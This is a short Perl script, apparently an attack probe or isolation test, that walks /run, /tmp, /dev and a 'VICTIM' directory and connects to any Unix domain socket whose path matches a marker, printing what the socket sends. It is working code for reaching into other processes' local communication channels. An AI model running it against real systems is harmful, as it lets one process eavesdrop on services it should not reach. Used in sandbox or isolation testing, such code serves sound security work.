# Looks for sockets wherever services put them, and listens to each of them.
use Socket;
my @folders = ('/run', '/var/run', '/tmp', '/var/tmp', '/dev', '/work', '/data', $ENV{VICTIM} =~ s{/[^/]*$}{}r);
for (my $depth = 0; $depth < 4; $depth++) {
    my @next;
    for my $folder (@folders) {
        opendir(my $open, $folder) or next;
        for my $path (map { "$folder/$_" } grep { !/^\.\.?$/ } readdir $open) {
            push @next, $path if -d $path && !-l $path;
            next unless -S $path && length $path < 108;
            socket(my $socket, AF_UNIX, SOCK_STREAM, 0);
            next unless $path =~ /\Q$ENV{MARKER}\E|\Q$ENV{VICTIM}\E/ && connect($socket, pack_sockaddr_un($path));
            print <$socket>;
        }
    }
    @folders = @next;
}
